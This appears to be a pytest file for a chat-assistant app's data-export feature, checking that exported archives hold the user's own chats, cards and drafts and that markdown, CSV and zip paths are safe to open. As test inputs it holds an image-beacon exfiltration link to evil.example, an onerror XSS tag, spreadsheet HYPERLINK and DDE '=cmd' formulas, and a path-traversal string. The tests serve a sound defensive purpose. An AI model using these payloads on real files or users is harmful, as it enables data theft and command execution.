"""Export all my data: one zip with everything the user's chats and assistants hold."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import pytest

from account.archive import export_everything
from api_bots import create_bot
from api_sessions import create_session, end_session, rate_session
from api_users import get_create_user
from api_util_openai import LLMClient, ModelConfig
from bots.card_fields import read_card
from bots.draft import BotDraft
from sessions.listing import rename_chat
from sessions.turn import start_turn
from tests.builders import make_coach
from tests.spreadsheets import every_cell_quoted, formula_cells
from users.drafts import save_draft

HOSTILE_REPLY = "Look: ![pixel](https://evil.example/?q=secret) <img src=x onerror=alert(1)>"


def sign_in(store, server, key):
    return get_create_user(key, LLMClient(key, base_url=server.base_url), store)


@pytest.fixture
def world(store, llm_server, llm):
    bot_id = make_coach(store, "You are Coach Maya. Ask one question at a time.")
    return store, sign_in(store, llm_server, "sk-test-alice"), llm, bot_id


def opened(data: bytes) -> zipfile.ZipFile:
    archive = zipfile.ZipFile(io.BytesIO(data))
    assert archive.testzip() is None
    return archive


def test_the_export_holds_every_chat_with_messages_recap_and_rating(world, llm_server):
    store, user, llm, bot_id = world
    first = create_session(store, user, llm, bot_id)
    for text in ("Plan my week", "b", "c"):
        list(start_turn(store, user, llm, first, text))
    end_session(store, user, llm, first)
    rate_session(store, user, first, liked=True)
    second = create_session(store, user, llm, bot_id)
    list(start_turn(store, user, llm, second, "Another topic"))
    stranger = sign_in(store, llm_server, "sk-test-mallory")
    list(start_turn(store, stranger, llm, create_session(store, stranger, llm, bot_id), "theirs"))

    archive = opened(export_everything(store, user))
    data = json.loads(archive.read("gptlab-export.json"))
    chats = {chat["id"]: chat for chat in data["chats"]}
    assert set(chats) == {first.session_id, second.session_id}
    done = chats[first.session_id]
    assert done["title"] == first.title and done["assistant"] == "Maya"
    assert done["status"] == "concluded" and done["rating"] == "liked"
    assert done["recap"] == first.recap
    assert [m["content"] for m in done["messages"]] == [m.content for m in first.transcript]
    assert done["tokens"]["prompt"] > 0 and done["estimated_cost_usd"] > 0
    assert chats[second.session_id]["messages"][-1]["content"] == "You said: Another topic"
    markdown_files = [n for n in archive.namelist() if n.startswith("chats/")]
    assert len(markdown_files) == 2 and all(n.endswith(".md") for n in markdown_files)
    assert "theirs" not in json.dumps(data)
    everything = b"".join(archive.read(name) for name in archive.namelist())
    assert b"Ask one question at a time" not in everything  # the creator's hidden prompt
    rows = list(csv.reader(io.StringIO(archive.read("chats.csv").decode())))
    assert rows[0][:3] == ["created", "title", "assistant"] and len(rows) == 3


def test_exported_files_are_safe_to_open(world):
    store, user, llm, bot_id = world
    chat = create_session(store, user, llm, bot_id)
    list(start_turn(store, user, llm, chat, "[[say]]" + HOSTILE_REPLY))
    rename_chat(store, user, chat.session_id, '=HYPERLINK("https://evil.example","x") ../../etc')
    archive = opened(export_everything(store, user))
    for name in archive.namelist():
        assert not name.startswith("/") and ".." not in name and "\\" not in name
    (markdown_name,) = [n for n in archive.namelist() if n.startswith("chats/")]
    markdown = archive.read(markdown_name).decode()
    assert re.search(r"(?<!\\)!\[pixel\]", markdown) is None  # no image loads
    assert re.search(r"(?<!\\)<img", markdown) is None and "\\<img" in markdown
    rows = list(csv.reader(io.StringIO(archive.read("chats.csv").decode())))
    assert rows[1][1].startswith("'=HYPERLINK")
    # The JSON keeps the exact words: it is data, not a document that renders.
    data = json.loads(archive.read("gptlab-export.json"))
    assert HOSTILE_REPLY in [m["content"] for m in data["chats"][0]["messages"]]


@pytest.mark.parametrize(
    "title",
    ["Totals;=1+1", '=HYPERLINK("https://evil.example/?q="&A1,"Click")', "@SUM(1)", "Plan|-2+3"],
)
def test_the_overview_csv_never_lets_a_spreadsheet_formula_through(world, title):
    store, user, llm, bot_id = world
    chat = create_session(store, user, llm, bot_id)
    list(start_turn(store, user, llm, chat, "hello"))
    rename_chat(store, user, chat.session_id, title)
    text = opened(export_everything(store, user)).read("chats.csv").decode()
    assert every_cell_quoted(text) and formula_cells(text) == []
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][1].replace("'", "") == title.replace("'", "")


def test_an_assistant_name_with_a_line_break_starts_no_formula_in_the_overview(
    store, llm_server, llm
):
    store.set("users/creator", {"bots_created": 0})
    draft = BotDraft(
        name="Maya\n=cmd|' /C calc'!A0",
        tag_line="Career Coach",
        description="Helps with careers.",
        initial_prompt="You are Coach Maya.",
        model_config=ModelConfig("gpt-4o-mini", 300),
    )
    bot_id = create_bot(store, "creator", draft)
    user = sign_in(store, llm_server, "sk-test-alice")
    list(start_turn(store, user, llm, create_session(store, user, llm, bot_id), "hello"))
    text = opened(export_everything(store, user)).read("chats.csv").decode()
    assert every_cell_quoted(text) and formula_cells(text) == []
    assert list(csv.reader(io.StringIO(text)))[1][2] == "Maya\n'=cmd|' /C calc'!A0"


def test_the_export_carries_the_users_own_assistants_as_importable_cards(store, llm_server):
    creator = sign_in(store, llm_server, "sk-test-creator")
    make_coach(store, "You are Coach Maya. Ask one question at a time.")
    bot_id = store.query("bots")[0][0]
    store.update(f"bots/{bot_id}", {"creator_user_id": creator.user_id})
    archive = opened(export_everything(store, creator))
    (card_name,) = [n for n in archive.namelist() if n.startswith("assistants/")]
    card = read_card(archive.read(card_name))
    assert card["versions"][0]["initial_prompt"].startswith("You are Coach Maya")
    assert json.loads(archive.read("gptlab-export.json"))["assistants"] == [card_name]
    visitor = sign_in(store, llm_server, "sk-test-visitor")
    assert not [
        n for n in opened(export_everything(store, visitor)).namelist() if "assistants/" in n
    ]


def test_the_export_carries_the_unfinished_lab_draft_of_its_owner_only(store, llm_server):
    creator = sign_in(store, llm_server, "sk-test-drafting")
    save_draft(store, creator, {"initial_prompt": "You are Rae, half written.", "name": "Rae"})
    exported = json.loads(opened(export_everything(store, creator)).read("gptlab-export.json"))
    assert exported["unfinished_lab_draft"] == {
        "initial_prompt": "You are Rae, half written.",
        "name": "Rae",
    }
    visitor = sign_in(store, llm_server, "sk-test-not-drafting")
    theirs = json.loads(opened(export_everything(store, visitor)).read("gptlab-export.json"))
    assert theirs["unfinished_lab_draft"] is None


def test_the_export_carries_the_owners_confidential_knowledge_in_its_cards(store, llm_server):
    from dataclasses import replace

    from api_bots import MARK_CONFIDENTIAL, KnowledgeSource, stage_text

    creator = sign_in(store, llm_server, "sk-test-creator")
    notes = "Playbook: offer the Harbor discount of 35 percent before a cancellation."
    source = KnowledgeSource(
        stage_text(store, creator.user_id, notes),
        "Playbook",
        "md",
        MARK_CONFIDENTIAL,
        14,
        len(notes),
    )
    draft = BotDraft("Rae", "Coach", "Helps.", "You are Rae.", ModelConfig("gpt-4o-mini", 300))
    create_bot(store, creator.user_id, replace(draft, knowledge=(source,)))
    archive = opened(export_everything(store, creator))
    (card_name,) = [n for n in archive.namelist() if n.startswith("assistants/")]
    assert (
        notes in archive.read(card_name).decode()
    )  # their own: a card shared elsewhere leaves it out
